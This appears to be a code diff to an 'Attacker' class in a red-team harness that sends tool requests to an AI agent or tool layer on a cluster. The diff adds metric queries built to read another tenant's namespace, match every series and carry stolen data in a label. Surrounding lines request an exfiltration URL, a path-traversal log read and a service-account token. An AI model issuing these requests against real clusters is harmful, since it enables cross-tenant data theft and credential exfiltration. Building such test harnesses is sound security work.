@@ -47,7 +47,7 @@ class Attacker:
         wanted = self._wanted(stolen)
         begin = self.first + (self.asked - 1) * (MAX_ASKS - 1)
         turned = [wanted[number % len(wanted)] for number in range(begin, begin + MAX_ASKS - 1)]
-        batch = [{"tool": tool, "object": one} for tool, one in turned]
+        batch = [{"tool": tool, "query" if tool == "metric" else "object": one} for tool, one in turned]
         since = f"2026-01-0{self.asked}T00:00:00Z"
         harmless = {"tool": "log", "object": self.workload, "contains": "password", "since": since}
         content = {
@@ -79,6 +79,11 @@ class Attacker:
             ("get", f"https://{EXFILTRATION}/{stolen}"),
             ("log", f"Pod/{own}/x/../../../{FOREIGN}/pods/held/log"),
             ("get", f"ServiceAccount/{own}/default/token"),
+            ("metric", f'{{namespace="{FOREIGN}"}}'),
+            ("metric", f'up{{namespace=~"{own}|{FOREIGN}"}} or up{{exported_namespace="{FOREIGN}"}}'),
+            ("metric", f'label_replace(up, "namespace", "{FOREIGN}", "", "") or vector(1)'),
+            ("metric", '{__name__=~".+"}'),
+            ("metric", f'up{{q="{stolen}"}} offset 90d'),
         ]
 
     def _hypothesis(self, wanted: str) -> dict[str, Any]:
@@ -87,6 +92,11 @@ class Attacker:
             | {"operator": "Contains", "value": "a value of it"}
             for look in ("field", "log", "event")
         ]
+        if "{" in wanted:
+            looks = [
+                one | {"look": "metric", "object": self.workload, "field": wanted, "operator": "Exists"}
+                for one in looks
+            ]
         return {
             "object": self.workload,
             "cause": "Other",
